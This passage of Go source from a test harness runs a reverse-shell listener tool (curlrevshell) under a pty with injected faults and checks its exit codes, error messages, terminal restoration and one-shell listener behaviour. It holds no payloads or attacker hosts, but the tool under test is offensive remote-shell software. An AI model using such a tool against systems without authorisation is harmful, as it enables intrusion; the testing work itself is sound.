	// minimiser cannot turn one scenario into another by dropping it)
	if exits == 0 && expect(cs).kind == expNormal {
		return "the program would start but the case does not say how to end it"
	}
	return ""
}

func (cs *caseSpec) faults() []Action {
	var out []Action
	for _, a := range cs.acts {
		if a.K == KFault {
			out = append(out, a)
		}
	}
	return out
}

func (cs *caseSpec) has(id string) bool {
	for _, a := range cs.acts {
		if a.K == KFault && a.ID == id {
			return true
		}
	}
	return false
}

func (cs *caseSpec) hasGroup(g string) bool {
	for _, a := range cs.acts {
		if a.K == KFault && group(a.ID) == g {
			return true
		}
	}
	return false
}

// exitHow is how the harness ends the program when it starts normally.
func (cs *caseSpec) exitHow() string {
	for _, a := range cs.acts {
		if a.K == KExit {
			return a.ID
		}
	}
	return ExitCtrlD
}

func parseCase(cfgRaw json.RawMessage, acts []json.RawMessage) (*caseSpec, error) {
	cs := &caseSpec{}
	if err := json.Unmarshal(cfgRaw, &cs.cfg); err != nil {
		return nil, fmt.Errorf("bad config: %w", err)
	}
	for _, raw := range acts {
		var a Action
		if err := json.Unmarshal(raw, &a); err != nil {
			return nil, fmt.Errorf("bad action: %w", err)
		}
		cs.acts = append(cs.acts, a)
	}
	return cs, nil
}
