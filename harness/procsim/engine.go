package procsim

import (
	"bytes"
	"debug/buildinfo"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// Engine is the process-level engine.
type Engine struct{}

// Name implements simkit.Engine.
func (Engine) Name() string { return "procsim" }

// startedToken in the terminal output means start-up has finished (the
// one-liners with the key fingerprint are shown); no other wording is read.
const startedToken = "sha256//"

// ---- per-process environment: the binary and a valid certificate cache ----

type environment struct {
	bin       string
	scratch   string
	goVersion string // toolchain the binary was built with
	reported  bool

	goodOnce sync.Once
	good     []byte
	goodErr  error
	goodRuns int64
}

var (
	envOnce sync.Once
	theEnv  *environment
	envErr  error
	caseSeq atomic.Int64
)

func repoPath() string {
	if p := os.Getenv("VERIF_REPO"); p != "" {
		return p
	}
	return "/repo"
}

func getEnv(job *simkit.Job) (*environment, error) {
	envOnce.Do(func() {
		scratch := job.Scratch
		if scratch == "" {
			scratch = os.TempDir()
		}
		if err := os.MkdirAll(scratch, 0o755); err != nil {
			envErr = err
			return
		}
		bin := filepath.Join(scratch, "curlrevshell")
		tmp := fmt.Sprintf("%s.%d.tmp", bin, os.Getpid())
		// The shipped binary is what a user of the repository gets: built by
		// the default toolchain (`go` on PATH, which honours the repository's
		// go.mod); go1.26.8 only if that is missing or fails.  PROCSIM_GO
		// forces one (for comparing toolchains).
		tools := []string{"go", "go1.26.8"}
		if t := os.Getenv("PROCSIM_GO"); t != "" {
			tools = []string{t}
		}
		var env []string
		for _, kv := range os.Environ() {
			if !strings.HasPrefix(kv, "GOROOT=") {
				env = append(env, kv)
			}
		}
		env = append(env, "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local", "CGO_ENABLED=0")
		stop := make(chan struct{})
		go func() {
			tk := time.NewTicker(2 * time.Second)
			defer tk.Stop()
			for {
				select {
				case <-tk.C:
					simkit.Heartbeat.Add(1)
				case <-stop:
					return
				}
			}
		}()
		var fails []string
		built := false
		for _, tool := range tools {
			cmd := exec.Command(tool, "build", "-o", tmp, ".")
			cmd.Dir = repoPath()
			cmd.Env = env
			out, err := cmd.CombinedOutput()
			if err == nil {
				built = true
				break
			}
			fails = append(fails, fmt.Sprintf("%s build in %s: %v\n%s", tool, cmd.Dir, err, out))
		}
		close(stop)
		if !built {
			envErr = errors.New("building the binary:\n" + strings.Join(fails, "\n"))
			return
		}
		if err := os.Rename(tmp, bin); err != nil {
			envErr = err
			return
		}
		goVersion := "unknown"
		if bi, err := buildinfo.ReadFile(bin); err == nil {
			goVersion = bi.GoVersion
		}
		theEnv = &environment{bin: bin, scratch: scratch, goVersion: goVersion}
	})
	return theEnv, envErr
}

func childEnv(dir string) []string {
	// CURLREVSHELL_LOG is deliberately absent
	return []string{
		"HOME=" + filepath.Join(dir, "home"),
		"XDG_CACHE_HOME=" + filepath.Join(dir, "xdg"),
		"PATH=/usr/local/bin:/usr/bin:/bin",
		"TERM=xterm",
		"LANG=C",
	}
}

func hasStarted(b []byte) bool {
	return bytes.Contains(bytes.ToLower(b), []byte(startedToken))
}

// goodCache returns a valid certificate cache file: the one the binary
// itself writes when started normally once.
func (ev *environment) goodCache() ([]byte, error) {
	ev.goodOnce.Do(func() {
		dir := filepath.Join(ev.scratch, fmt.Sprintf("good%d", os.Getpid()))
		defer os.RemoveAll(dir)
		for _, d := range []string{"home", "xdg"} {
			if err := os.MkdirAll(filepath.Join(dir, d), 0o755); err != nil {
				ev.goodErr = err
				return
			}
		}
		path := filepath.Join(dir, "cache", "cert.txtar")
		p, err := startProc(true, ev.bin, []string{"-listen-address", "127.0.0.1:0",
			"-tls-certificate-cache", path}, childEnv(dir), 0)
		if err != nil {
			ev.goodErr = err
			return
		}
		ev.goodRuns++
		r := p.waitFor(hasStarted, capHarness)
		if r == wFound {
			_ = p.send([]byte{0x03})
			r = p.waitFor(nil, capSelf)
		}
		if r != wExited {
			p.kill()
		}
		out, _, _ := p.finish()
		b, err := os.ReadFile(path)
		if err != nil || len(b) == 0 {
			ev.goodErr = fmt.Errorf("a normal start did not leave a certificate cache (%v); output:\n%s", err, clipTail(string(out), 1500))
			return
		}
		if !bytes.Contains(b, []byte("-- cert --\n")) || !bytes.Contains(b, []byte("-- key --\n")) {
			ev.goodErr = errors.New("certificate cache has no cert and key sections: format unknown to the harness")
			return
		}
		ev.good = b
	})
	return ev.good, ev.goodErr
}

// ---- turning a case into a command line and its files --------------------

type plan struct {
	dir      string
	argv     []string
	tokens   map[string]string // fault id -> offending path / address
	inUse    string            // address held by the harness
	closers  []func()
	oneShell bool
}

func (pl *plan) cleanup() {
	for _, f := range pl.closers {
		f()
	}
	if pl.dir != "" {
		// a 0500 directory must become removable again
		_ = filepath.Walk(pl.dir, func(p string, fi os.FileInfo, err error) error {
			if err == nil && fi.IsDir() {
				_ = os.Chmod(p, 0o755)
			}
			return nil
		})
		_ = os.RemoveAll(pl.dir)
	}
}

// canon removes run-specific values (scratch paths, ports).
func (pl *plan) canon(s string) string {
	if pl.inUse != "" {
		s = strings.ReplaceAll(s, pl.inUse, "127.0.0.1:PORT")
	}
	return strings.ReplaceAll(s, pl.dir, "$S")
}

func (pl *plan) canonArgv() string {
	parts := make([]string, 0, len(pl.argv))
	for _, a := range pl.argv {
		a = pl.canon(a)
		if a == "" || strings.ContainsAny(a, " \t") {
			a = "'" + a + "'"
		}
		parts = append(parts, a)
	}
	return "curlrevshell " + strings.Join(parts, " ")
}

// garbage is a fixed block of bytes that is no certificate cache.
func garbage() []byte {
	b := make([]byte, 600)
	x := uint32(0x2545f491)
	for i := range b {
		x ^= x << 13
		x ^= x >> 17
		x ^= x << 5
		b[i] = byte(x)
	}
	return b
}

func materialise(ev *environment, cs *caseSpec, rep int) (*plan, error) {
	pl := &plan{tokens: map[string]string{}}
	pl.dir = filepath.Join(ev.scratch, fmt.Sprintf("c%d_%d", os.Getpid(), caseSeq.Add(1)))
	for _, d := range []string{"home", "xdg"} {
		if err := os.MkdirAll(filepath.Join(pl.dir, d), 0o755); err != nil {
			return pl, err
		}
	}
	in := func(parts ...string) string { return filepath.Join(append([]string{pl.dir}, parts...)...) }
	write := func(path string, b []byte) error {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			return err
		}
		return os.WriteFile(path, b, 0o600)
	}

	addr := "127.0.0.1:0"
	cache := in("cache", "cert.txtar")
	passCache := true
	logf, ctrli := "", ""
	if !cs.hasGroup("cache") {
		switch cs.cfg.Cache {
		case CacheGood:
			good, err := ev.goodCache()
			if err != nil {
				return pl, err
			}
			if err := write(cache, good); err != nil {
				return pl, err
			}
		case CacheDefault:
			passCache = false
		}
	}
	if cs.cfg.Info == InfoCtrlI && !cs.has(FCtrlIMissing) {
		// asked to print the Ctrl+I payload: give it a source that exists
		ctrli = in("funcs.sh")
		if err := write(ctrli, []byte("# TABDOC: hello Say hello\nhello() { echo hello; }\n")); err != nil {
			return pl, err
		}
	}
	for _, f := range cs.faults() {
		switch f.ID {
		case FNoTTY:
		case FAddrUnparsable:
			addr = addrUnparsable[f.V]
			pl.tokens[f.ID] = addr
		case FAddrUnresolvable:
			addr = "no-such-host.invalid:4444"
			pl.tokens[f.ID] = addr
		case FAddrInUse:
			l, err := net.Listen("tcp", "127.0.0.1:0")
			if err != nil {
				return pl, err
			}
			pl.closers = append(pl.closers, func() { l.Close() })
			addr = l.Addr().String()
			pl.inUse = addr
			pl.tokens[f.ID] = addr
		case FCacheTruncated, FCacheGarbage, FCacheKeyCertSwap:
			var b []byte
			if f.ID == FCacheGarbage {
				b = garbage()
			} else {
				good, err := ev.goodCache()
				if err != nil {
					return pl, err
				}
				if f.ID == FCacheTruncated {
					b = good[:len(good)/2]
				} else {
					s := strings.ReplaceAll(string(good), "-- cert --\n", "-- tmp --\n")
					s = strings.ReplaceAll(s, "-- key --\n", "-- cert --\n")
					b = []byte(strings.ReplaceAll(s, "-- tmp --\n", "-- key --\n"))
				}
			}
			if err := write(cache, b); err != nil {
				return pl, err
			}
			pl.tokens[f.ID] = cache
		case FCacheBelowFile:
			if err := write(in("afile"), []byte("a regular file\n")); err != nil {
				return pl, err
			}
			cache = in("afile", "x", "cert.txtar")
			pl.tokens[f.ID] = cache
		case FCacheIsDir:
			cache = in("cachedir")
			if err := os.MkdirAll(cache, 0o755); err != nil {
				return pl, err
			}
			pl.tokens[f.ID] = cache
		case FCacheUncreatable:
			cache = UncreatablePath
			pl.tokens[f.ID] = cache
		case FCacheDirUnwritable:
			if err := os.MkdirAll(in("readonly"), 0o500); err != nil {
				return pl, err
			}
			_ = os.Chmod(in("readonly"), 0o500)
			cache = in("readonly", "sub", "cert.txtar")
			pl.tokens[f.ID] = cache
		case FLogIsDir:
			logf = in("logdir")
			if err := os.MkdirAll(logf, 0o755); err != nil {
				return pl, err
			}
			pl.tokens[f.ID] = logf
		case FLogBelowFile:
			if err := write(in("lfile"), []byte("a regular file\n")); err != nil {
				return pl, err
			}
			logf = in("lfile", "x.json")
			pl.tokens[f.ID] = logf
		case FCtrlIMissing:
			ctrli = in("no-such-ctrl-i-source.sh")
			pl.tokens[f.ID] = ctrli
		}
	}
	if how := cs.exitHow(); isInsertExit(how) && ctrli == "" {
		// a Ctrl+I source that takes a while to prepare
		ctrli = in("funcs")
		if err := os.MkdirAll(ctrli, 0o755); err != nil {
			return pl, err
		}
		for i := 0; i < insertSweep[rep%len(insertSweep)]; i++ {
			name, body := fmt.Sprintf("f%03d.sh", i), fmt.Sprintf("# TABDOC: f%03d Say %d\nf%03d() { echo %d; }\n", i, i, i, i)
			if i%2 == 1 {
				name, body = fmt.Sprintf("p%03d.pl", i), fmt.Sprintf("#!/usr/bin/env perl\n# TABDOC: p%03d Print %d\nprint \"%d\\n\";\n", i, i, i)
			}
			if err := write(filepath.Join(ctrli, name), []byte(body)); err != nil {
				return pl, err
			}
		}
	}
	pl.argv = []string{"-listen-address", addr}
	if passCache {
		pl.argv = append(pl.argv, "-tls-certificate-cache", cache)
	}
	if logf != "" {
		pl.argv = append(pl.argv, "-log", logf)
	}
	if ctrli != "" {
		pl.argv = append(pl.argv, "-ctrl-i", ctrli)
	}
	for _, a := range cs.acts {
		if a.K == KExit && isOneShell(a.ID) {
			pl.oneShell = true
			pl.argv = append(pl.argv, "-one-shell")
		}
	}
	if cs.cfg.Info != InfoNone {
		pl.argv = append(pl.argv, cs.cfg.Info)
	}
	return pl, nil
}

// ---- Run ------------------------------------------------------------------

// Run implements simkit.Engine.
func (Engine) Run(t *testing.T, job *simkit.Job, rng *simkit.RNG, idx int64, c *simkit.Case) *simkit.Outcome {
	var cs *caseSpec
	if c == nil {
		all := enumerate(job.Args["skip_notty"] == "1")
		w := int64(job.Workers)
		if w < 1 {
			w = 1
		}
		n := idx*w + int64(job.Worker)
		if job.Property == PropertyOneShell {
			// only the (small) -one-shell family, whole in every worker
			all, n = enumerateOneShell(), idx
		}
		if job.Property == PropertyLog {
			// only the (small) LOG family, whole in every worker
			all, n = enumerateLog(), idx
		}
		if job.Property == PropertyCache {
			// only the (small) certificate-cache family, whole in every worker
			all, n = enumerateCache(), idx
		}
		if n < 0 || n >= int64(len(all)) {
			return &simkit.Outcome{Done: true}
		}
		cs = &all[n]
	} else {
		var err error
		if cs, err = parseCase(c.Config, c.Actions); err != nil {
			return &simkit.Outcome{HarnessErr: err.Error()}
		}
	}
	o := &simkit.Outcome{Faults: map[string]int64{}, Probes: map[string]int64{}}
	cb, _ := json.Marshal(cs.cfg)
	o.Case = &simkit.Case{Config: cb}
	parts := []string{string(cb)}
	var names []string
	for _, a := range cs.acts {
		b, _ := json.Marshal(a)
		o.Case.Actions = append(o.Case.Actions, b)
		parts = append(parts, string(b))
		names = append(names, a.String())
	}
	o.Hash = simkit.Hash64(parts...)
	o.Trace = append(o.Trace, fmt.Sprintf("case: tty=%v info=%q termios=%d cache=%s items=[%s]",
		cs.cfg.TTY, cs.cfg.Info, cs.cfg.Termios, cs.cfg.Cache, strings.Join(names, " ")))
	if cs.cfg.Stdin != StdinTTY {
		o.Trace = append(o.Trace, "standard input: "+cs.cfg.Stdin+" (the pty stays controlling terminal, stdout and stderr)")
	}
	if why := cs.validate(); why != "" {
		o.Invalid = true
		o.Trace = append(o.Trace, "not executable: "+why)
		return o
	}
	ev, err := getEnv(job)
	if err != nil {
		o.HarnessErr = err.Error()
		return o
	}
	if !ev.reported {
		ev.reported = true
		o.Probes["binary_built_with_"+ev.goVersion]++
	}
	execute(ev, cs, o)
	return o
}

func clipTail(s string, n int) string {
	if len(s) > n {
		return "..." + s[len(s)-n:]
	}
	return s
}

// execute runs the one process of the case and judges it.
func execute(ev *environment, cs *caseSpec, o *simkit.Outcome) {
	if expect(cs).kind == expNormal && isLogExit(cs.exitHow()) {
		executeLog(ev, cs, o)
		return
	}
	if expect(cs).kind == expNormal && isCacheExit(cs.exitHow()) {
		executeCache(ev, cs, o)
		return
	}
	reps := 1
	if expect(cs).kind == expNormal && isInsertExit(cs.exitHow()) {
		reps = len(insertSweep)
		if n, err := strconv.Atoi(os.Getenv("PROCSIM_INSERT_REPS")); err == nil && n > 0 {
			reps = n
		}
	}
	for rep := 0; rep < reps && len(o.Violations) == 0 && o.HarnessErr == ""; rep++ {
		if reps > 1 {
			o.Trace = append(o.Trace, fmt.Sprintf("process %d of %d: %d files behind -ctrl-i", rep+1, reps, insertSweep[rep%len(insertSweep)]))
		}
		executeOnce(ev, cs, o, rep)
	}
}

// executeOnce runs one process of the case and judges it.
func executeOnce(ev *environment, cs *caseSpec, o *simkit.Outcome, rep int) {
	exp := expect(cs)
	var app []string
	for _, f := range exp.applicable {
		app = append(app, f.ID)
	}
	if rep == 0 {
		o.Trace = append(o.Trace, fmt.Sprintf("expect: %s (%s) applicable=[%s]", exp.kind, exp.label, strings.Join(app, " ")))
	}
	o.NonTrivial = len(cs.faults()) > 0 || exp.kind == expNormal

	runsBefore := ev.goodRuns
	pl, err := materialise(ev, cs, rep)
	defer pl.cleanup()
	o.Steps += ev.goodRuns - runsBefore
	if err != nil {
		o.HarnessErr = "preparing the case: " + err.Error()
		return
	}
	for _, f := range cs.faults() {
		o.Faults[f.ID]++
	}
	o.Trace = append(o.Trace, "argv: "+pl.canonArgv())

	in := stdinSpec{kind: cs.cfg.Stdin}
	if in.kind == StdinFile {
		in.path, in.content = filepath.Join(pl.dir, "stdin.keys"), cs.stdinContent()
	}
	p, err := startProcStdin(cs.cfg.TTY, ev.bin, pl.argv, childEnv(pl.dir), cs.cfg.Termios, in)
	if err != nil {
		o.HarnessErr = err.Error()
		return
	}
	o.Steps++
	if cs.cfg.Stdin != StdinTTY {
		o.Faults["stdin_"+cs.cfg.Stdin]++
	}
	harness := func(format string, a ...any) {
		p.kill()
		out, _, _ := p.finish()
		o.HarnessErr = fmt.Sprintf(format, a...) + "\n" + pl.canonArgv() + "\noutput:\n" + clipTail(pl.canon(string(out)), 3000)
	}

	var (
		started  bool // the start-up finished (one-liners shown)
		stuck    bool // asked to leave, it never did
		stayed   bool // its input ended and it stayed (nothing says it must leave)
		endedHow string
		fam      famObs // what a -one-shell scenario saw
	)
	if !cs.cfg.TTY || cs.cfg.Info != InfoNone {
		// it can only exit
		if p.waitFor(nil, capHarness) != wExited {
			harness("process still running after %s", capHarness)
			return
		}
	} else if cs.inputEndsByItself() {
		// Nobody can type: the input holds the key of the exit (if any) and
		// ends.  Whether the program gets to show its start-up before it reads
		// that is a race nothing here depends on; a start-up fault ends it
		// before it reads anything.
		endedHow = cs.exitHow()
		if exp.kind == expNormal {
			o.Trace = append(o.Trace, "the input ends by itself ("+endedHow+"); waiting for the program to leave")
		}
		limit := capSelf
		if exp.kind != expNormal {
			limit = capHarness
		}
		if p.waitFor(nil, limit) != wExited {
			if exp.kind != expNormal && !hasStarted(p.output()) {
				harness("process neither exited nor finished start-up within %s", capHarness)
				return
			}
			stayed = true
			p.kill()
		}
	} else {
		switch p.waitFor(hasStarted, capHarness) {
		case wTimeout:
			harness("process neither exited nor finished start-up within %s", capHarness)
			return
		case wFound:
			started = true
			endedHow = cs.exitHow()
			if exp.kind != expNormal {
				endedHow = ExitCtrlD
			}
			o.Trace = append(o.Trace, "start-up finished; ending it by "+endedHow)
			herr, gone := endProgram(p, endedHow, &fam)
			if herr != "" {
				harness("%s", herr)
				return
			}
			if !gone {
				if endedHow == ExitStdinEOF {
					stayed = true
				} else {
					stuck = true
				}
				p.kill()
			}
		}
	}
	out, after, err := p.finish()
	if err != nil {
		o.HarnessErr = err.Error()
		return
	}
	code, sig := p.status()
	low := strings.ToLower(string(out))
	marks := crashMarksIn(low)
	shown := clipTail(pl.canon(string(out)), 1500)

	// ---- the trace ----
	byItself := cs.inputEndsByItself() && cs.cfg.TTY && cs.cfg.Info == InfoNone
	if byItself && exp.kind != expNormal {
		// a start-up fault comes before anything is read: it must not get
		// as far as showing its start-up
		started = hasStarted(out)
	}
	if cs.cfg.TTY && cs.cfg.Info == InfoNone && !started && !(byItself && exp.kind == expNormal) {
		o.Trace = append(o.Trace, "exited before finishing start-up")
	}
	o.Trace = append(o.Trace, fam.trace...)
	switch {
	case stuck:
		o.Trace = append(o.Trace, "exit: none by itself (killed by the harness)")
	case stayed:
		o.Trace = append(o.Trace, "exit: none (the end of its input did not make it leave; killed by the harness)")
	case sig != 0:
		o.Trace = append(o.Trace, fmt.Sprintf("exit: killed by signal %d", int(sig)))
	default:
		o.Trace = append(o.Trace, fmt.Sprintf("exit: status %d", code))
	}
	o.Trace = append(o.Trace, fmt.Sprintf("crash marks: [%s]", strings.Join(marks, ", ")))
	named := causesNamed(low, exp.applicable, pl.tokens)
	if exp.kind == expFail {
		o.Trace = append(o.Trace, fmt.Sprintf("cause named: [%s]", strings.Join(named, " ")))
	}
	tdiff := ""
	if cs.cfg.TTY {
		tdiff = termiosDiff(&p.before, after)
		o.Probes["termios_checked"]++
		if tdiff == "" {
			o.Trace = append(o.Trace, "termios: equal")
		} else {
			o.Trace = append(o.Trace, "termios: DIFFERENT ("+tdiff+")")
		}
	} else {
		o.Trace = append(o.Trace, "termios: n/a")
	}

	// ---- the oracle ----
	stdinNote := ""
	if cs.cfg.Stdin != StdinTTY {
		stdinNote = ", standard input redirected: " + cs.cfg.Stdin
	}
	foundP := func(prop, inv, what, format string, a ...any) {
		o.Violations = append(o.Violations, simkit.Found{
			Property: prop, Invariant: inv, Signature: exp.label + ": " + what,
			Message: fmt.Sprintf(format, a...) + "\n  " + pl.canonArgv() +
				fmt.Sprintf("\n  (tty=%v%s, termios variant %d, binary built with %s)\n  output:\n%s",
					cs.cfg.TTY, stdinNote, cs.cfg.Termios, ev.goVersion, shown),
		})
	}
	found := func(inv, what, format string, a ...any) { foundP(Property, inv, what, format, a...) }
	crashed := len(marks) > 0 || (sig != 0 && !stuck && !stayed)
	// in every case: no crash, terminal mode restored
	if len(marks) > 0 {
		what := "Go panic / stack trace in the output"
		if exp.kind == expFail {
			what = "Go panic / stack trace instead of an error message"
		}
		found("no-crash-trace", what, "the output carries the marks of a Go crash %q (exit status %d)", marks, code)
	} else if sig != 0 && !stuck && !stayed {
		found("no-crash-trace", "killed by a signal instead of exiting", "the process was killed by signal %d (%v)", int(sig), sig)
	}
	if cs.cfg.TTY && tdiff != "" && !stuck && !stayed { // (killed by the harness, it could not restore anything)
		found("termios-restored", "terminal not returned to the mode it was found in",
			"termios after the exit differs from termios before the start: %s", tdiff)
	}
	if stuck {
		found("exits-by-itself", "did not exit by itself",
			"%s after %s the process was still there", capSelf, endedHow)
	}
	switch exp.kind {
	case expFail:
		switch {
		case started:
			found("nonzero-exit", "program started up although the start-up condition cannot be satisfied",
				"expected a start-up failure (%s), the program finished its start-up instead", strings.Join(app, ", "))
		case crashed:
			// reported above; a stack trace is not judged as a message
		default:
			if code == 0 {
				found("nonzero-exit", "exit status 0 although start-up failed",
					"expected a non-zero exit status for %s, got 0", strings.Join(app, ", "))
			} else {
				o.Probes["exited_nonzero"]++
			}
			if len(named) == 0 {
				found("names-cause", "message does not name the cause",
					"the output names none of the injected causes (%s): neither path/address nor an accepted word", strings.Join(app, ", "))
			}
		}
	case expInfo:
		if !crashed {
			if code != 0 {
				found("informational-flag", "did not exit with status 0",
					"%s with no applicable fault before it must succeed, exit status %d", cs.cfg.Info, code)
			} else {
				o.Probes["exited_zero_informational"]++
			}
		}
	case expNormal:
		if cs.has(FCtrlIMissing) && started {
			o.Probes["started_with_ctrli_warning"]++
		}
		switch {
		case !started && !byItself:
			if !crashed {
				found("starts-normally", "program exited during start-up although nothing was wrong",
					"no start-up condition was unsatisfiable, yet the program exited (status %d) before finishing start-up", code)
			}
		case isOneShell(endedHow):
			judgeOneShell(o, endedHow, &fam, stuck, crashed, code, low, foundP)
		case stuck || crashed:
		case stayed:
			// the statement does not say the end of the input ends the program
			o.Probes["stdin_eof_not_followed_by_exit"]++
		case byItself || endedHow == ExitStdinEOF:
			// it left because its input was over (whatever key came before
			// that): an exit by itself, judged above; the statement gives no
			// exit status for it
			o.Probes["normal_exit_"+endedHow]++
			o.Probes[fmt.Sprintf("redirected_stdin_exit_status_%d", code)]++
		default:
			o.Probes["normal_exit_"+endedHow]++
			if endedHow == ExitCtrlC || endedHow == ExitInsertCtrlC {
				o.Probes[fmt.Sprintf("ctrl_c_exit_status_%d", code)]++
			} else if code != 0 {
				found("normal-exit-status", "exit status not 0",
					"leaving by %s must give exit status 0, got %d", endedHow, code)
			}
		}
	}
}

// endProgram makes a normally started program leave, in the way asked for,
// and waits for it.  herr is harness trouble; gone says the process exited by
// itself within the cap.
func endProgram(p *proc, how string, fam *famObs) (herr string, gone bool) {
	switch how {
	case ExitCtrlC:
		if err := p.send([]byte{0x03}); err != nil {
			return "typing Ctrl+C: " + err.Error(), false
		}
		return "", p.waitFor(nil, capSelf) == wExited
	case ExitInsertCtrlD:
		// Tab and Ctrl+D arrive together
		if err := p.send([]byte("\t\x04")); err != nil {
			return "typing Tab and Ctrl+D: " + err.Error(), false
		}
		return "", p.waitFor(nil, capSelf) == wExited
	case ExitInsertCtrlC:
		if err := p.send([]byte("\t")); err != nil {
			return "typing Tab: " + err.Error(), false
		}
		if err := p.send([]byte{0x03}); err != nil {
			return "typing Ctrl+C: " + err.Error(), false
		}
		return "", p.waitFor(nil, capSelf) == wExited
	case ExitCtrlD:
		if err := p.send([]byte{0x04}); err != nil {
			return "typing Ctrl+D: " + err.Error(), false
		}
		return "", p.waitFor(nil, capSelf) == wExited
	case ExitStdinEOF:
		if p.stdinW == nil {
			return "no pipe to close: the standard input is not one", false
		}
		p.closeStdin()
		return "", p.waitFor(nil, capSelf) == wExited
	}
	return endOneShell(p, how, fam)
}

// judgeOneShell is the oracle of the -one-shell family: C12's own invariants,
// and the exit status also as C20's.  (Crash marks, terminal mode and "exits
// by itself" are judged for C20 like in every other case.)
func judgeOneShell(o *simkit.Outcome, how string, fam *famObs, stuck, crashed bool, code int, lowOut string,
	foundP func(prop, inv, what, format string, a ...any)) {
	if fam.closedEarly || fam.endedEarly {
		foundP(PropertyOneShell, "one-shell-listener-open-until-shell", "listener closed (or program ended) before a shell was fully attached",
			"as long as no shell is fully attached the listener has to stay open: connect refused=%v, program ended=%v",
			fam.closedEarly, fam.endedEarly)
	}
	if fam.probed {
		if fam.refused {
			o.Probes["one_shell_new_connect_refused"]++
		} else {
			foundP(PropertyOneShell, "one-shell-listener-closed", "a new connection is still accepted after the shell is fully attached",
				"%s after the shell was fully attached connects to the listen address still got through", capRefuse)
		}
	} else {
		o.Probes["one_shell_exit_in_mid_scenario"]++
	}
	if fam.stragglerAttached {
		o.Probes["one_shell_late_request_became_a_shell"]++
	}
	if stuck {
		foundP(PropertyOneShell, "one-shell-exits-by-itself", "did not exit by itself",
			"the shell has ended and Enter was pressed every 100 ms for %s: the process was still there", capSelf)
		return
	}
	// the Go runtime's own "fatal error:" is a crash mark as well
	if crashed || strings.Contains(lowOut, "fatal error") {
		foundP(PropertyOneShell, "one-shell-no-fatal-error", "fatal error or crash reported instead of a clean end",
			"the output reports a fatal error / carries crash marks (exit status %d)", code)
	}
	if crashed {
		return
	}
	if code != 0 {
		foundP(PropertyOneShell, "one-shell-exit-status", "exit status not 0",
			"after the one shell has ended the program must exit with success, got status %d", code)
		foundP(Property, "normal-exit-status", "exit status not 0",
			"leaving by %s must give exit status 0, got %d", how, code)
		return
	}
	o.Probes["normal_exit_"+how]++
}
