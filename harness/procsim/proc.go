package procsim

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"sync"
	"syscall"
	"time"

	"golang.org/x/sys/unix"

	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// Caps of the event-driven waits.
const (
	capHarness = 60 * time.Second // hitting it is harness trouble
	capSelf    = 30 * time.Second // "exits by itself" after the harness asked it to
)

// endMark is written by the harness itself to its own slave descriptor after
// the child is gone: everything the child wrote precedes it on the master.
const endMark = "@@procsim-end-of-output@@"

// proc is one running child.
type proc struct {
	cmd     *exec.Cmd
	tty     bool
	master  *os.File
	slaveFd int
	before  unix.Termios

	mu      sync.Mutex
	buf     []byte        // what came out of the pty master so far
	notify  chan struct{} // poked on new output
	rdDone  chan struct{} // master reader gone
	pipeBuf bytes.Buffer  // stdout+stderr without a tty

	exited  chan struct{} // closed when the child has been reaped
	waitErr error

	// the child's standard input is not the terminal (see Stdin*): the write
	// end of its pipe, which the harness keeps open and "types" on
	stdinW *os.File
}

// stdinSpec says what the child's standard input is when it is not the
// terminal: kind is one of the Stdin* constants, path/content the regular
// file of StdinFile.
type stdinSpec struct {
	kind    string
	path    string
	content []byte
}

// startProc starts bin with argv, either under a fresh pty put into termios
// variant v, or in a new session without any controlling terminal.
func startProc(tty bool, bin string, argv, env []string, v int) (*proc, error) {
	return startProcStdin(tty, bin, argv, env, v, stdinSpec{})
}

// startProcStdin is startProc with the child's standard input redirected
// away from the terminal (in.kind != StdinTTY; tty only): the pty stays the
// controlling terminal, standard output and standard error.
func startProcStdin(tty bool, bin string, argv, env []string, v int, in stdinSpec) (*proc, error) {
	if in.kind != StdinTTY && !tty {
		return nil, errors.New("redirected standard input is for cases with a terminal only")
	}
	p := &proc{tty: tty, slaveFd: -1, notify: make(chan struct{}, 1), exited: make(chan struct{})}
	p.cmd = exec.Command(bin, argv...)
	p.cmd.Env = env
	p.cmd.Dir = "/"
	if tty {
		master, sfd, spath, err := openPTY()
		if err != nil {
			return nil, err
		}
		p.master, p.slaveFd = master, sfd
		t, err := unix.IoctlGetTermios(sfd, unix.TCGETS)
		if err != nil {
			p.closeFiles()
			return nil, fmt.Errorf("TCGETS: %w", err)
		}
		applyTermiosVariant(t, v)
		if err := unix.IoctlSetTermios(sfd, unix.TCSETS, t); err != nil {
			p.closeFiles()
			return nil, fmt.Errorf("TCSETS: %w", err)
		}
		got, err := unix.IoctlGetTermios(sfd, unix.TCGETS)
		if err != nil {
			p.closeFiles()
			return nil, fmt.Errorf("TCGETS: %w", err)
		}
		if d := termiosDiff(t, got); d != "" {
			p.closeFiles()
			return nil, fmt.Errorf("pty did not take termios variant %d: %s", v, d)
		}
		p.before = *got
		// the child's own descriptors of the slave
		cs, err := os.OpenFile(spath, os.O_RDWR|syscall.O_NOCTTY, 0)
		if err != nil {
			p.closeFiles()
			return nil, err
		}
		defer cs.Close()
		p.cmd.Stdin, p.cmd.Stdout, p.cmd.Stderr = cs, cs, cs
		p.cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 0}
		if in.kind != StdinTTY {
			// descriptor 0 is something else: the terminal becomes the
			// controlling one through descriptor 1
			p.cmd.SysProcAttr.Ctty = 1
			var rd *os.File
			switch in.kind {
			case StdinDevNull:
				rd, err = os.Open(os.DevNull)
			case StdinPipe:
				rd, p.stdinW, err = os.Pipe()
			case StdinFile:
				if err = os.WriteFile(in.path, in.content, 0o600); err == nil {
					rd, err = os.Open(in.path)
				}
			default:
				err = fmt.Errorf("unknown kind of standard input %q", in.kind)
			}
			if err != nil {
				p.closeFiles()
				return nil, fmt.Errorf("preparing the child's standard input: %w", err)
			}
			defer rd.Close() // the child has its own copy
			p.cmd.Stdin = rd
		}
		p.rdDone = make(chan struct{})
		go p.readMaster()
	} else {
		// stdin nil = /dev/null; one pipe for stdout and stderr
		p.cmd.Stdout, p.cmd.Stderr = &p.pipeBuf, &p.pipeBuf
